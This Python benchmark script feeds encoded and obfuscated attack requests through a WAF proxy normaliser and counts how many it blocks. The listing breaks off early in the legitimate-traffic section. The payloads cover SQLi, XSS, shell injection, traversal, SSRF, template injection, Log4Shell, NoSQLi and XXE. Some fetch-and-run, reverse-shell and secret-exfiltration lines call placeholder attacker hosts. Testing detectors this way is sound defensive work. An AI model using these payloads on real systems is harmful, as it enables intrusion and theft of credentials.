"""Blind end-to-end probe through the real `bastion proxy`: evasion techniques against the normaliser.

Written without looking at the rules or the detectors (only at the harness of bench/eval_proxy.py,
the request builders of bench/eval_variants.py and the sendability check of bench/eval_blind.py),
so its first run is an honest estimate of how the default config copes with what WAF-bypass
tooling does to a payload rather than with the payload itself: double, triple and %u URL encoding,
overlong UTF-8, mixed-case escapes, HTML entities with and without semicolons, JS and JSON unicode
escapes, base64 inside JSON, bodies in UTF-16, UTF-7 and EBCDIC declared by a charset, null bytes
and exotic whitespace; SQL comments inside keywords, versioned comments, scientific notation and
hex strings; slash-separated tags and rare events in HTML; $IFS, globbing, quoting and caret
tricks in shells; dotted, octal, hex and IPv6 spellings of internal addresses; nested Log4j
lookups and filtered template syntax; and placement tricks (matrix parameters, parameter
pollution, duplicate and attacker-chosen JSON keys, deep nesting, multipart field names).

The legitimate half drives the same decoding paths with ordinary API traffic: percent-encoded
non-ASCII names, buggy double-encoded file names, entity-escaped rich text, base64 blobs, JSON
unicode escapes, matrix-parameter and encoded-slash paths (GitLab style), dotted and tilde file
names, network inventories full of private and IPv6 addresses, cron strings, CI pipelines with
`&&`, OData and Elasticsearch filters, templates and placeholders.

    .venv/bin/python bench/eval_evasion.py [--one-client] [--verbose] [--attacks-first]

Prints the share blocked per class (`benign` is the false-positive share) and, with --verbose,
every attack let through and every legitimate request refused.
"""

from __future__ import annotations

import json
import urllib.parse
from typing import Any

from eval_blind import check
from eval_proxy import Req, evaluate
from eval_variants import b64, form, get, hdr, js, multipart, nest, q, raw_json, xml

OOB = "x7k2.oast.example"  # the attacker's out-of-band collector
SHELL_IP = "203.0.113.9"


def qq(v: str, times: int = 2) -> str:
    """Percent-encoded `times` times over, as tools do to slip past a single decoding pass."""
    for _ in range(times):
        v = q(v)
    return v


def u_enc(v: str) -> str:
    """IIS-style %uXXXX encoding of every character that is not alphanumeric."""
    return "".join(c if c.isalnum() else f"%u{ord(c):04x}" for c in v)


def json_u(v: str) -> str:
    """A JSON string literal with every character written as a \\uXXXX escape."""
    return '"' + "".join(f"\\u{ord(c):04x}" for c in v) + '"'


def charset_json(cls: str, path: str, doc: Any, charset: str) -> Req:
    """A JSON body encoded in another charset that the Content-Type announces (frameworks decode it)."""
    return Req(cls, "POST", path, {"Content-Type": f"application/json; charset={charset}"}, json.dumps(doc).encode(charset))


def charset_form(cls: str, path: str, fields: dict[str, str], charset: str) -> Req:
    """A form body in a declared charset; ASP.NET decodes IBM037 (EBCDIC) forms this way."""
    body = urllib.parse.urlencode(fields).encode(charset)
    return Req(cls, "POST", path, {"Content-Type": f"application/x-www-form-urlencoded; charset={charset}"}, body)


def path(cls: str, target: str, headers: dict[str, str] | None = None) -> Req:
    return Req(cls, "GET", target, headers or {})


# --------------------------------------------------------------------------------------------------
# attacks


def sqli() -> list[Req]:
    s = "sqli"
    p = "/api/v1/products"
    return [
        # URL-encoding layers
        get(s, p, raw="id=" + qq("-1 UNION SELECT username,password FROM users-- -")),
        get(s, p, raw="id=" + qq("1' OR '1'='1'-- -", 3)),
        get(s, p, raw="id=" + u_enc("-1 UNION SELECT user(),2,3-- -")),
        get(s, p, raw="id=-1+%55n%49On+%53eLeCt+1,%76ersion(),3%2d%2d%20-"),
        get(s, p, raw="id=1%00'%20UNION%20SELECT%20password,2%20FROM%20users--%20-"),
        # comments, versioned comments, scientific notation, backticks, hex and CHAR()
        get(s, p, {"id": "-1 UN/**/ION SEL/**/ECT 1,user(),3"}),
        get(s, p, {"id": "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(password),3 /*!50000FROM*/ users"}),
        get(s, p, {"id": "1/*!12345AND*/(/*!12345SELECT*/ 1 FROM(/*!12345SELECT*/SLEEP(5))a)"}),
        get(s, p, {"id": "1e0UNION SELECT user,authentication_string FROM mysql.user"}),
        get(s, p, {"id": "1.e(UNION SELECT 1,2,3)"}),
        get(s, p, {"id": "-1 UNION SELECT 1,`table_name`,3 FROM `information_schema`.`tables`"}),
        get(s, p, {"user": "' OR username=0x61646d696e-- -"}),
        get(s, p, {"id": "-1 UNION SELECT CHAR(60,63,112,104,112),CONCAT(0x7e,@@version,0x7e)"}),
        # alternative whitespace
        get(s, p, raw="id=-1%0bUNION%0bSELECT%0b1,2,3"),
        get(s, p, raw="id=1%a0or%a01=1"),
        get(s, p, raw="id=-1%09union%0d%0aselect%0c1,table_name,3%0afrom%0binformation_schema.tables"),
        get(s, p, raw="id=-1+uNiOn%0aaLl%0aSeLeCt+1,2,dAtAbAsE()"),
        # operators and numeric contexts without quotes
        get(s, p, {"id": "1' || 1=1-- -"}),
        get(s, p, {"id": "1 && (SELECT 1 FROM users WHERE SUBSTR(password,1,1)='a')"}),
        get(s, p, {"id": "5 or 1=1"}),
        get(s, p, {"id": "(select(sleep(5)))"}),
        get(s, p, {"id": "5-(select 1 from(select sleep(5))x)"}),
        get(s, p, {"id": "5 RLIKE (SELECT (CASE WHEN (1=1) THEN 0x61 ELSE 0x28 END))"}),
        # JSON-operator SQL
        get(s, p, {"id": "1 or '{\"x\":1}'::jsonb ? 'x' and (select count(*) from pg_shadow)>0"}),
        get(s, p, {"id": "1' OR JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))-- -"}),
        get(s, p, {"id": "1 or json_extract('{\"a\":\"b\"}','$.a')='b' and sleep(5)"}),
        # stacked
        get(s, p, {"id": "5;shutdown--"}),
        get(s, p, {"id": "5; DROP TABLE users"}),
        get(s, p, {"id": "1;exec xp_cmdshell 'whoami'--"}),
        # JSON encodings and placements
        raw_json(s, "/api/v1/users/search", '{"name": ' + json_u("x' UNION SELECT password FROM users-- -") + "}"),
        js(s, "/api/v1/reports", {"filter": b64("1' UNION SELECT username,password FROM users-- -"), "encoding": "base64"}),
        raw_json(s, "/api/v1/users/search", '{"id": 1, "id": "1 OR 1=1-- -"}'),
        js(s, "/api/v1/products/search", {"sort": {"name) UNION SELECT password FROM users-- -": "asc"}}),
        js(s, "/api/v1/products/search", nest([f"l{i}" for i in range(40)], "1' AND SLEEP(5)-- -")),
        # parameter pollution: ASP.NET joins the copies with commas, the comments swallow them
        get(s, p, raw="id=1/**/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users"),
        get(s, p, raw="id=7&id=" + q("-7 UNION SELECT 1,password FROM users-- -")),
        # charset tricks
        charset_form(s, "/api/v1/login", {"username": "admin' OR '1'='1'-- -", "password": "x"}, "ibm037"),
        charset_json(s, "/api/v1/users/search", {"name": "x' UNION SELECT password FROM users-- -"}, "utf-16"),
        # path, multipart field name, header
        path(s, "/api/v1/users/1%20UNION%20SELECT%20password%20FROM%20users/orders"),
        path(s, "/api/v1/users/1%2527%2520OR%25201=1--%2520-/orders"),
        multipart(s, "/api/v1/profile", [("id' OR 1=1-- -", "x", None, None)]),
        hdr(s, {"X-Forwarded-For": "1'/**/AND/**/SLEEP(5)#"}),
    ]


def xss() -> list[Req]:
    s = "xss"
    p = "/api/v1/search"
    dec = "".join(f"&#{ord(c)};" for c in "javascript:")
    dec_nosemi = "".join(f"&#{ord(c)}" for c in "javascript:")
    hex_pad = "".join(f"&#x{ord(c):07X};" for c in "javascript:")
    return [
        get(s, p, {"q": "<svg/onload=alert(1)>"}),
        get(s, p, {"q": "<img/src/onerror=alert(1)>"}),
        get(s, p, {"q": "<img src=`x` onerror=`alert(1)`>"}),
        get(s, p, {"q": "<div onpointerenter=alert(1)>hover</div>"}),
        get(s, p, {"q": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"}),
        get(s, p, {"q": "<details open ontoggle=alert(1)>"}),
        get(s, p, {"q": "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>"}),
        get(s, p, {"q": "<svg><discard onbegin=alert(1)>"}),
        get(s, p, {"q": "<input autofocus onfocus=alert(1)>"}),
        get(s, p, {"q": "<video><source onerror=alert(1)>"}),
        get(s, p, {"q": f'<a href="{dec}alert(1)">x</a>'}),
        get(s, p, {"q": f'<a href="{dec_nosemi}alert(1)">x</a>'}),
        get(s, p, {"q": f'<a href="{hex_pad}alert(1)">x</a>'}),
        get(s, p, {"q": '<a href="javascript&colon;alert(1)">x</a>'}),
        get(s, p, {"q": '<a href="jav\tascript:alert(1)">x</a>'}),
        get(s, p, {"q": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'}),
        get(s, p, {"q": '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>'}),
        get(s, p, {"q": '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>'}),
        get(s, p, {"q": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>'}),
        get(s, p, {"q": "<svg onload=alert`1`>"}),
        get(s, p, {"q": "<img src=x onerror=[].constructor.constructor('alert(1)')()>"}),
        get(s, p, {"q": '<img src=x onerror="window.onerror=alert;throw 1">'}),
        get(s, p, {"q": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">"}),
        get(s, p, {"q": "<object data=\"javascript:alert(1)\">"}),
        get(s, p, {"q": "<svg><script href=data:,alert(1) />"}),
        # URL-level encodings
        get(s, p, raw="q=" + qq("<script>alert(1)</script>")),
        get(s, p, raw="q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
        get(s, p, raw="q=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
        get(s, p, raw="q=%3CsVg%0conload%3dalert(1)%3E"),
        get(s, p, raw="q=%3Cimg%0dsrc=x%0donerror=alert(1)%3E"),
        get(s, p, raw="q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E"),
        # JS and JSON escapes for values an app drops into a script or innerHTML
        js(s, "/api/v1/comments", {"post": 3, "body": "\\x3cimg src=x onerror=alert(1)\\x3e"}),
        js(s, "/api/v1/comments", {"post": 3, "body": "\\u003csvg onload=alert(1)\\u003e"}),
        js(s, "/api/v1/comments", {"post": 3, "body": "\\u{3c}img src=x onerror=alert(1)\\u{3e}"}),
        raw_json(s, "/api/v1/comments", '{"post": 3, "body": ' + json_u("<img src=x onerror=alert(document.cookie)>") + "}"),
        js(s, "/api/v1/comments", {"post": 3, "body_b64": b64("<script>fetch('//x7k2.oast.example/'+document.cookie)</script>")}),
        js(s, "/api/v1/comments", {"post": 3, "meta": {"<img src=x onerror=alert(1)>": "v"}}),
        multipart(s, "/api/v1/profile", [("<svg/onload=alert(1)>", "x", None, None)]),
        Req(s, "POST", "/api/v1/pages", {"Content-Type": "text/html; charset=utf-7"}, b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        charset_json(s, "/api/v1/comments", {"post": 3, "body": "<svg onload=alert(document.domain)>"}, "utf-16"),
    ]


def rce() -> list[Req]:
    s = "rce"
    p = "/api/v1/tools/ping"
    ps = b64("IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')".encode("utf-16-le"))
    return [
        get(s, p, {"host": "127.0.0.1;cat${IFS}/etc/passwd"}),
        get(s, p, {"host": "127.0.0.1;cat$IFS$9/etc/passwd"}),
        get(s, p, {"host": "127.0.0.1;{cat,/etc/passwd}"}),
        get(s, p, {"host": "127.0.0.1;/???/c?t /???/p??s??"}),
        get(s, p, {"host": "127.0.0.1;/b??/n?t??t -lvp 4444 -e /b??/sh"}),
        get(s, p, {"host": "127.0.0.1;c''at /e''tc/pa''sswd"}),
        get(s, p, {"host": "127.0.0.1;c\\at /et\\c/pas\\swd"}),
        get(s, p, {"host": "127.0.0.1;c\"a\"t /etc/pa\"ss\"wd"}),
        get(s, p, {"host": "127.0.0.1;ca$@t /etc/passwd"}),
        get(s, p, {"host": "127.0.0.1;w${x:-}hoami"}),
        get(s, p, {"host": "127.0.0.1;who$()ami"}),
        get(s, p, {"host": "127.0.0.1;$(printf '\\x63\\x61\\x74') /etc/passwd"}),
        get(s, p, {"host": "127.0.0.1;`printf \"\\167\\150\\157\\141\\155\\151\"`"}),
        get(s, p, {"host": "127.0.0.1;cat ${PATH:0:1}etc${PATH:0:1}passwd"}),
        get(s, p, {"host": "127.0.0.1;bash<<<$(base64 -d<<<Y2F0IC9ldGMvcGFzc3dk)"}),
        get(s, p, {"host": "127.0.0.1;a=/bin/b;b=ash;$a$b -c id"}),
        get(s, p, {"host": "127.0.0.1;$(rev<<<'imaohw')"}),
        get(s, p, {"host": "127.0.0.1;$(tr '[A-Z]' '[a-z]'<<<'WHOAMI')"}),
        get(s, p, raw="host=127.0.0.1%0Acat%09/etc/passwd"),
        get(s, p, raw="host=127.0.0.1%0d%0aid"),
        get(s, p, raw="host=" + qq("127.0.0.1|cat /etc/passwd")),
        get(s, p, raw="host=127.0.0.1%7Cnslookup%20%60whoami%60.x7k2.oast.example"),
        # Windows
        get(s, p, {"host": "127.0.0.1 & who^ami"}),
        get(s, p, {"host": "127.0.0.1 & %COMSPEC% /c whoami"}),
        get(s, p, {"host": "127.0.0.1 | c^m^d /c ty^pe C:\\windows\\win.ini"}),
        get(s, p, {"host": "127.0.0.1 & cmd /c \"set x=who&& call %x%ami\""}),
        get(s, p, {"host": f"127.0.0.1 | powershell -nop -w hidden -enc {ps}"}),
        get(s, p, {"host": "127.0.0.1 & %ProgramData:~0,1%%ProgramData:~9,2% /c whoami"}),  # "cmd" cut out of env vars
        # bodies and other placements
        js(s, "/api/v1/tools/dns", {"domain": "example.com$(sleep${IFS}5)"}),
        js(s, "/api/v1/tools/dns", {"domain": "x;echo${IFS}Y3VybCBodHRwOi8veDdrMi5vYXN0LmV4YW1wbGUvc3xzaA==|base64${IFS}-d|sh"}),
        raw_json(s, "/api/v1/tools/dns", '{"domain": ' + json_u("example.com; curl http://203.0.113.9/s|sh") + "}"),
        js(s, "/api/v1/tools/dns", {"domain": "x", "opts": {"$(id)": "1"}}),
        form(s, "/api/v1/convert", {"file": "a.pdf`python3 -c 'import os;os.system(\"id\")'`", "to": "png"}),
        multipart(s, "/api/v1/uploads", [("file", b"\xff\xd8\xff", "$(curl x7k2.oast.example|sh).jpg", "image/jpeg")]),
        hdr(s, {"User-Agent": "() { _; } >_[$($())] { /bin/id; }"}),
        charset_json(s, "/api/v1/tools/dns", {"domain": "example.com;cat /etc/passwd"}, "utf-16"),
    ]


def traversal() -> list[Req]:
    s = "traversal"
    d = "/api/v1/download"
    return [
        path(s, "/api/v1/files/..%2f..%2f..%2fetc%2fpasswd"),
        path(s, "/api/v1/files/..%252f..%252f..%252fetc%252fpasswd"),
        path(s, "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        path(s, "/api/v1/..;/..;/..;/etc/passwd"),
        path(s, "/api/v1/files/.%2e/.%2e/.%2e/etc/shadow"),
        get(s, d, {"file": "..\\..\\..\\windows\\win.ini"}),
        get(s, d, {"file": "....//....//....//etc/passwd"}),
        get(s, d, {"file": "/././././../../../../etc/passwd"}),
        get(s, d, {"file": "/var/www/images/../../../etc/passwd"}),
        get(s, d, {"file": "....\\\\....\\\\....\\\\windows\\\\win.ini"}),
        get(s, d, {"file": "../../../../etc/passwd\u0000.png"}),
        get(s, d, raw="file=%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
        get(s, d, raw="file=..%255c..%255c..%255cwindows%255cwin.ini"),
        get(s, d, raw="file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        get(s, d, raw="file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        get(s, d, raw="file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        get(s, d, raw="file=..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
        get(s, d, raw="file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
        get(s, d, {"file": "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"}),  # fullwidth dots and slashes
        get(s, d, {"file": "..\u2215..\u2215..\u2215etc\u2215passwd"}),
        get(s, d, {"file": "file:///etc/passwd"}),
        get(s, d, {"file": "\\\\203.0.113.9\\share\\x.dll"}),
        get(s, d, {"file": "/proc/self/environ"}),
        raw_json(s, "/api/v1/reports/render", '{"path": "..\\u002f..\\u002f..\\u002fetc\\u002fshadow"}'),
        js(s, "/api/v1/reports/render", {"template": b64("../../../../etc/passwd"), "template_encoding": "base64"}),
        multipart(s, "/api/v1/uploads", [("file", b"<% eval request(\"c\") %>", "..\\..\\..\\inetpub\\wwwroot\\x.asp", "application/octet-stream")]),
        multipart(s, "/api/v1/uploads", [("file", b"x", "..%2f..%2f..%2fvar%2fwww%2fhtml%2fs.php", "application/octet-stream")]),
        get(s, d, raw="file=report.pdf&file=" + q("../../../../etc/passwd")),
        charset_json(s, "/api/v1/reports/render", {"path": "../../../../etc/passwd"}, "utf-16"),
    ]


def ssrf() -> list[Req]:
    s = "ssrf"
    p = "/api/v1/fetch"
    urls = [
        "http://2130706433/admin",
        "http://0177.0.0.1/admin",
        "http://0x7f000001/admin",
        "http://0x7f.0x0.0x0.0x1/admin",
        "http://[::ffff:7f00:1]/admin",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/admin",
        "http://0/admin",
        "http://0.0.0.0:8080/actuator/env",
        "http://127.1/admin",
        "http://127.0.1:6379/",
        "http://shop.example.com@169.254.169.254/latest/meta-data/",
        "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/",
        "https://shop.example/redirect?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://localtest.me:8080/admin",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://127.0.0.1.nip.io/admin",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        "dict://127.0.0.1:11211/stats",
        "http://[::]:22/",
        "http://2852039166/latest/meta-data/",
        "http://0xA9FEA9FE/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
        "http://100.100.100.200/latest/meta-data/",
        "http://127.0.0.1:80\\@shop.example/",
        "http://LoCaLhOsT./admin",
        "http://metadata.google.internal./computeMetadata/v1/instance/service-accounts/default/token",
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/admin",  # enclosed alphanumerics, NFKC to 127.0.0.1
        "http://127.0.0.1:2375/containers/json",
    ]
    r = [get(s, p, {"url": u}) for u in urls]
    r += [
        get(s, p, raw="url=" + qq("http://169.254.169.254/latest/meta-data/")),
        js(s, "/api/v1/webhooks", {"url": "http://0x7f.1/admin", "events": ["order.created"]}),
        raw_json(s, "/api/v1/webhooks", '{"url": ' + json_u("http://169.254.169.254/latest/meta-data/") + "}"),
        js(s, "/api/v1/webhooks", {"url": "https://hooks.example.com/in", "url_override": "file:///etc/passwd"}),
        get(s, p, raw="url=https%3A%2F%2Fcdn.example.com%2Fa.png&url=" + q("http://[::1]:8500/v1/agent/self")),
    ]
    return r


def ssti() -> list[Req]:
    s = "ssti"
    p = "/api/v1/preview"
    payloads = [
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')"
        "|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        "{{request|attr([\"_\"*2,\"class\",\"_\"*2]|join)}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{%print(lipsum|attr(\"__globals__\"))%}",
        "{{ (()|attr('_'~'_class_'~'_')) }}",
        "{{''['\\u005f\\u005fclass\\u005f\\u005f']}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "<%= `id` %>",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
        "{system('id')}",
        "{{['id']|filter('system')}}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "#{root.process.mainModule.require('child_process').execSync('id')}",
    ]
    r = [js(s, p, {"template": t}) for t in payloads]
    r += [
        get(s, p, raw="name=" + qq("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")),
        get(s, p, raw="name=%7B%25%20import%20os%20%25%7D%7B%7Bos.popen(%22id%22).read()%7D%7D"),
        raw_json(s, p, '{"template": ' + json_u("{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}") + "}"),
        form(s, "/api/v1/emails/preview", {"subject": "Hi ${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"}),
    ]
    return r


def log4shell() -> list[Req]:
    s = "log4shell"
    lookups = [
        "${${lower:j}ndi:${lower:l}dap://x7k2.oast.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x7k2.oast.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x7k2.oast.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://x7k2.oast.example/a}",
        "${${upper:j}ndi:dns://x7k2.oast.example/a}",
        "${j${k8s:k5:-ND}i:ldap://x7k2.oast.example/a}",
        "${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://x7k2.oast.example/a}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x7k2.oast.example/a}",
        "${${lower:${lower:jndi}}:${lower:rmi}://x7k2.oast.example/a}",
        "${jndi:ldap://127.0.0.1#x7k2.oast.example:1389/a}",
        "${${base64:JHtqbmRpOmxkYXA6Ly94N2syLm9hc3QuZXhhbXBsZS9hfQ==}}",
        "${jndi:iiop://x7k2.oast.example/a}",
    ]
    r = [hdr(s, {"X-Api-Version": lk}) for lk in lookups[:6]]
    r += [js(s, "/api/v1/events", {"type": "login", "ua": lk}) for lk in lookups[6:]]
    r += [
        raw_json(s, "/api/v1/events", '{"type": "login", "ua": ' + json_u("${jndi:ldap://x7k2.oast.example/a}") + "}"),
        get(s, "/api/v1/search", raw="q=" + qq("${jndi:ldap://x7k2.oast.example/a}")),
        get(s, "/api/v1/search", raw="q=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fx7k2.oast.example%2Fa%7D"),
        hdr(s, {"User-Agent": "Mozilla/5.0 ${${lower:J}${upper:N}${lower:D}${upper:I}:ldap://x7k2.oast.example/ua}"}),
        hdr(s, {"Cookie": "lang=en; tz=${jndi:ldap://x7k2.oast.example/c}"}),
    ]
    return r


def nosqli() -> list[Req]:
    s = "nosqli"
    lg = "/api/v1/login"
    return [
        form(s, lg, {"username[$ne]": "x", "password[$ne]": "x"}),
        Req(s, "POST", lg, {"Content-Type": "application/x-www-form-urlencoded"}, b"username%5B%24ne%5D=admin&password%5B%24gt%5D="),
        Req(s, "POST", lg, {"Content-Type": "application/x-www-form-urlencoded"}, b"username=admin&password%5B%2524ne%5D=1"),
        get(s, "/api/v1/users", raw="filter%5Buser%5D%5Bpassword%5D%5B%24regex%5D=%5Ea"),
        js(s, lg, {"username": {"$ne": None}, "password": {"$ne": None}}),
        raw_json(s, lg, '{"username": "admin", "password": {"\\u0024ne": ""}}'),
        raw_json(s, lg, '{"username": "admin", "password": {' + json_u("$gt") + ': ""}}'),
        js(s, "/api/v1/users/search", {"$where": "sleep(5000) || true"}),
        js(s, lg, {"username": {"$regex": "^adm"}, "password": {"$regex": ".*"}}),
        js(s, "/api/v1/users/search", {"name": "a'; while(true){}; var b='"}),
        js(s, "/api/v1/users/search", {"name": "admin' || '1'=='1"}),
        js(s, "/api/v1/users/search", {"filter": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}}),
        js(s, lg, {"username": {"$in": ["admin", "root"]}, "password": {"$exists": True}}),
        raw_json(s, lg, '{"username": "admin", "password": "x", "password": {"$ne": 1}}'),
        hdr(s, {"Cookie": 'session=j:{"$ne":null}; lang=en'}),
        js(s, "/api/v1/users/search", {"filter": {"$or": [{}, {"a": "a"}]}}),
        js(s, "/api/v1/reports", {"pipeline": [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}]}),
    ]


def xxe() -> list[Req]:
    s = "xxe"
    p = "/api/v1/import"
    basic = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    return [
        xml(s, p, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "http://x7k2.oast.example/e.dtd">%d;]><x/>'),
        Req(s, "POST", p, {"Content-Type": "application/xml"}, basic.replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode("utf-16")),
        Req(s, "POST", p, {"Content-Type": "application/xml; charset=utf-16be"}, basic.encode("utf-16-be")),
        xml(s, p, '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r+AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x;+ADw-/r+AD4-'),
        xml(s, p, '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>'),
        xml(s, p, '<?xml version="1.0"?>\n<!DOCTYPE\nr\n[\n<!ENTITY\nx\nSYSTEM\n"file:///etc/passwd"\n>\n]\n>\n<r>&x;</r>'),
        xml(s, p, '<?xml version="1.0"?><!DOCTYPE\tr\t[<!ENTITY\tx\tPUBLIC\t"-//x//x"\t"file:///etc/passwd">]><r>&x;</r>'),
        xml(s, p, '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>'),
        xml(s, "/soap/UserService", '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">'
                                     "<soap:Body><GetUser><id>&x;</id></GetUser></soap:Body></soap:Envelope>", "application/soap+xml"),
        xml(s, p, '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
                  '<!ENTITY % ISOamso \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///nx/&#x25;f;&#x27;>">&#x25;e;\'>%local;]><m/>'),
        xml(s, p, '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
                  "<xsl:copy-of select=\"document('/etc/passwd')\"/></xsl:template></xsl:stylesheet>"),
        multipart(s, "/api/v1/uploads", [("file", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
                                                  '<svg xmlns="http://www.w3.org/2000/svg"><text y="20">&x;</text></svg>', "logo.svg", "image/svg+xml")]),
        form(s, "/api/v1/feeds/validate", {"xml": basic}),
        js(s, "/api/v1/feeds/validate", {"xml_b64": b64(basic)}),
        Req(s, "POST", "/api/v1/users/search", {"Content-Type": "application/xml"}, basic.encode()),  # JSON endpoint, content type switched
        xml(s, p, '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://x7k2.oast.example/x.dtd"><r/>'),
    ]


# --------------------------------------------------------------------------------------------------
# legitimate traffic that walks the same decoding paths


def benign() -> list[Req]:
    b = "benign"
    r: list[Req] = []
    # non-ASCII, percent-encoded
    r += [
        path(b, "/api/v1/cities/" + q("Łódź")),
        path(b, "/api/v1/cities/" + q("東京") + "/weather"),
        get(b, "/api/v1/users", {"name": "Zoë Saldaña"}),
        get(b, "/api/v1/search", {"q": "東京 ラーメン"}),
        get(b, "/api/v1/search", {"q": "🍕 near me"}),
        get(b, "/api/v1/search", {"q": "Привет мир"}),
        get(b, "/api/v1/search", {"q": "مرحبا"}),
        path(b, "/api/v1/tags/" + q("café") + "/posts"),
        get(b, "/api/v1/search", {"q": "crème brûlée recipe"}),
        get(b, "/api/v1/search", {"q": "family 👨‍👩‍👧 photos"}),
        get(b, "/api/v1/search", raw="q=M%C3%BCnchen&lang=de"),
        get(b, "/api/v1/search", raw="q=S%C3%A3o%20Paulo"),
        get(b, "/api/v1/search", raw="q=C%2B%2B%20tutorial"),
        get(b, "/api/v1/users", raw="email=jane%2Btest%40example.com"),
        get(b, "/api/v1/search", raw="q=100%25%20cotton"),
        get(b, "/api/v1/search", raw="Q=Rock%20%26%20Roll&Sort=Name"),
    ]
    # buggy clients that encode twice, harmless values
    r += [
        path(b, "/api/v1/files/My%2520Report%2520%25282024%2529.pdf"),
        get(b, "/api/v1/search", raw="q=summer%2520sale"),
        get(b, "/api/v1/redirect", raw="next=%252Fdashboard%253Ftab%253Dbilling"),
        get(b, "/api/v1/search", raw="q=caf%25C3%25A9"),
    ]
    # HTML entities in rich text
    r += [
